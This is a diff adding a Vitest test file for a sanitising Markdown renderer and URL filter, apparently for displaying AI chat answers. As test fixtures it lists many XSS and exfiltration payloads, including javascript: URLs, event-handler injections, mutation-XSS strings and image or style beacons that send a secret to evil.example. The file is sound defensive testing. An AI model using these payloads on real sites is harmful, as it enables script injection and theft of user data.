@@ -1,0 +1,181 @@
+import { parseHTML } from 'linkedom';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { RenderedMarkdown } from './RenderedMarkdown.tsx';
+import { safeAddress } from './safe-address.ts';
+
+const render = (text: string) => renderToStaticMarkup(<RenderedMarkdown text={text} />);
+const documentOf = (html: string) => parseHTML(`<!doctype html><html><body>${html}</body></html>`).document;
+
+const addresses = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  'java\\nscript:alert(1)',
+  '&#106;avascript:alert(1)',
+  'javascript&colon;alert(1)',
+  '\u0001javascript:alert(1)',
+  '  javascript:alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  'blob:x',
+  'file:///etc/passwd',
+  '//evil.example/x',
+  '/api/logout',
+  'about:blank',
+  'intent://x',
+  'tel:112',
+  'steam://run/1',
+  'view-source:https://evil.example',
+];
+
+const payloads = [
+  ...addresses.map((address) => `[a](${address})`),
+  ...addresses.map((address) => `[a][r]\n\n[r]: ${address}`),
+  ...addresses.map((address) => `![a](${address})`),
+  '<javascript:alert(1)>',
+  '![x](https://evil.example/p.png?d=SECRET)',
+  '![x][r]\n\n[r]: https://evil.example/p.png?d=SECRET',
+  '[![x](https://evil.example/p.png)](https://evil.example)',
+  '[^1]\n\n[^1]: ![x](https://evil.example/f?SECRET)',
+  '| ![x](https://evil.example/t?SECRET) |\n|---|\n| b |',
+  '- [ ] ![x](https://evil.example/l)',
+  '<img src=x onerror=alert(1)>',
+  '<IMG SRC="https://evil.example/p">',
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<svg onload=alert(1)>',
+  '<svg><image href="https://evil.example/x"/></svg>',
+  '<iframe src=javascript:alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
+  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<details open ontoggle=alert(1)>',
+  '<form action=javascript:alert(1)><button>x</button></form>',
+  '<style>@import "https://evil.example/"</style>',
+  '<link rel=stylesheet href=https://evil.example>',
+  '<base href=https://evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<video poster="https://evil.example/p?SECRET">',
+  '<input type=image src=https://evil.example/p?SECRET>',
+  '<p style="background:url(https://evil.example/?SECRET)">x</p>',
+  '<object data="https://evil.example"></object>',
+  '<embed src="https://evil.example">',
+  '<audio src="https://evil.example">',
+  '```html\n<script>alert(1)</script>\n```',
+  '`<img src=x onerror=alert(1)>`',
+  '[a](http://evil.example" onmouseover="alert(1))',
+  '[a](<https://evil.example" onclick="alert(1)>)',
+  '[a](https://evil.example "x\\" onclick=\\"alert(1)")',
+  'https://evil.example/?d=SECRET',
+  '<https://evil.example/?d=SECRET>',
+  'www.evil.example/?d=SECRET',
+  '# <img src=x onerror=alert(1)>',
+  '<!-- --><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+];
+
+const ALLOWED = new Set([
+  'div',
+  'p',
+  'span',
+  'a',
+  'strong',
+  'em',
+  'del',
+  'ul',
+  'ol',
+  'li',
+  'code',
+  'pre',
+  'h3',
+  'h4',
+  'h5',
+  'h6',
+  'blockquote',
+  'br',
+  'hr',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'sup',
+  'section',
+]);
+
+describe.each(payloads)('%j', (payload) => {
+  const elements = [...documentOf(render(payload)).body.querySelectorAll('*')];
+
+  it('becomes harmless elements only', () => {
+    expect(elements.map((e) => e.localName).filter((name) => !ALLOWED.has(name))).toEqual([]);
+  });
+
+  it('has no attribute that runs, fetches or submits', () => {
+    const found = elements
+      .flatMap((e) => [...e.attributes].map((a) => a.name))
+      .filter((name) => /^on|^(src|srcset|poster|action|formaction|ping|background|data|xlink:href)$/.test(name));
+    expect(found).toEqual([]);
+  });
+
+  it('links to the web or to mail only, with the host in sight', () => {
+    for (const link of elements.filter((e) => e.hasAttribute('href'))) {
+      expect(link.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
+      expect(link.parentElement?.textContent).toContain('evil.example');
+    }
+  });
+});
+
+it('is as harmless at every length while an answer streams in', () => {
+  for (const payload of payloads) {
+    for (let length = 1; length < payload.length; length += 1) {
+      const names = [...documentOf(render(payload.slice(0, length))).body.querySelectorAll('*')].map(
+        (e) => e.localName,
+      );
+      expect(names.filter((name) => !ALLOWED.has(name))).toEqual([]);
+    }
+  }
+});
+
+it.each([
+  ['[은행](https://evil.example/login)', '(evil.example)'],
+  ['[https://good.example](https://evil.example/)', '(evil.example)'],
+  ['[good.example/evil.example](https://evil.example/)', '(evil.example)'],
+  ['[**굵게**](https://evil.example/)', '(evil.example)'],
+  ['[편지](mailto:a@b.example)', '(a@b.example)'],
+])('shows where %s leads', (text, host) => {
+  expect(render(text)).toContain(host);
+});
+
+it('says the host once when the link is its own address', () => {
+  expect(documentOf(render('https://news.example/a')).body.textContent).toBe('https://news.example/a');
+});
+
+it('renders headings, lists, tables, tasks and code', () => {
+  const html = render('# 제목\n\n- 하나\n- [x] 둘\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n`코드`');
+  expect(html).toContain('<h3>제목</h3>');
+  expect(html).toContain('☑');
+  expect(html).toContain('<td style="text-align:right">2</td>');
+  expect(html).toContain('<code>코드</code>');
+});
+
+it('puts what it is given in the place of known marks, and leaves others', () => {
+  const marks = { isKnown: (mark: number) => mark === 1, show: (mark: number) => <b key={mark}>{mark}</b> };
+  const html = renderToStaticMarkup(<RenderedMarkdown text={'첫 잔 [1]\n\n- **원두** [1] [2]\n- `[1]`'} marks={marks} />);
+  expect(documentOf(html).body.querySelectorAll('b').length).toBe(2);
+  expect(html).toContain('[2]');
+  expect(html).toContain('<code>[1]</code>');
+});
+
+it.each([
+  ['https://a.example/x?y=1', 'https://a.example/x?y=1'],
+  ['HTTP://A.example', 'http://a.example/'],
+  ['mailto:a@b.example', 'mailto:a@b.example'],
+  ['javascript:alert(1)', ''],
+  ['//evil.example', ''],
+  ['/api/logout', ''],
+  ['#top', ''],
+])('takes the address %s as %j', (address, kept) => {
+  expect(safeAddress(address)).toBe(kept);
+});
